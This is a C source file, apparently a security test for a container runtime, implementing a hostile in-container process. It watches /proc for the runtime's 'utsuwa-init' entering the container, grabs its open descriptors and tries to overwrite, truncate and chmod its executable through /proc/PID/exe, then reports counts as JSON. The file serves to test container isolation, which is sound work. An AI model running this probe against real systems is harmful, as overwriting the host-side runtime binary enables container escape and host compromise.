/*
 * A hostile process of a container. It lies in wait for init, which enters the container to execute something, and takes
 * hold of what it can: init's descriptors and its executable, which it tries to change. Ends when it has tried as often as its argument says, or
 * when /tmp/stop exists, and says what it got.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int tries, descriptors, executables, writable, changed_mode, made_shorter;

/* Some are held on to: while a program is executed nobody writes to it (ETXTBSY), afterwards its seals stand alone. */
#define HELD_MAX 16
static int held[HELD_MAX], held_count;

static void damage(int executable) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
  int fd = open(path, O_WRONLY);
  if (fd >= 0) {
    if (write(fd, "#!/bin/evil\n", 12) > 0) writable++;
    if (ftruncate(fd, 0) == 0) made_shorter++;
    close(fd);
  }
}

/* Last of all: when nobody may execute it any more, there is nothing left to lie in wait for. */
static void take_mode(int executable) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", executable);
  if (chmod(path, 0) == 0) changed_mode++;
}

static void take_descriptor(const char *pid, int number) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, number);
  int fd = open(path, O_PATH);
  if (fd < 0) return;
  descriptors++;
  close(fd);
}

static void look_at(const char *pid) {
  char path[300], text[256] = "";
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int fd = open(path, O_RDONLY);
  if (fd >= 0) {
    if (read(fd, text, sizeof text - 1) > 0 && strncmp(text, "utsuwa-init", 11) == 0) {
      tries++;
      /* 0 to 2 are the container's own, and can be had from the exec on. */
      for (int number = 3; number < 12; number++) take_descriptor(pid, number);
    }
    close(fd);
  }
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  ssize_t length = readlink(path, text, sizeof text - 1);
  if (length <= 0) return;
  text[length] = '\0';
  if (strstr(text, "init") == NULL) return;
  fd = open(path, O_RDONLY);
  if (fd < 0) return;
  executables++;
  damage(fd);
  if (held_count < HELD_MAX) held[held_count++] = fd;
  else close(fd);
}

int main(int argc, char **argv) {
  int wanted = argc == 2 ? atoi(argv[1]) : 0;
  puts("ready");
  fflush(stdout);
  while (tries < wanted && access("/tmp/stop", F_OK) != 0) {
    DIR *proc = opendir("/proc");
    for (struct dirent *entry; proc != NULL && (entry = readdir(proc)) != NULL;)
      if (isdigit((unsigned char)entry->d_name[0]) && strcmp(entry->d_name, "1") != 0) look_at(entry->d_name);
    if (proc != NULL) closedir(proc);
    for (int i = 0; i < held_count; i++) damage(held[i]);
  }
  for (int i = 0; i < held_count; i++) take_mode(held[i]);
  printf("{\"tries\":%d,\"descriptors\":%d,\"executables\":%d,\"writable\":%d,\"shorter\":%d,\"mode\":%d}\n", tries, descriptors,
         executables, writable, made_shorter, changed_mode);
  return 0;
}
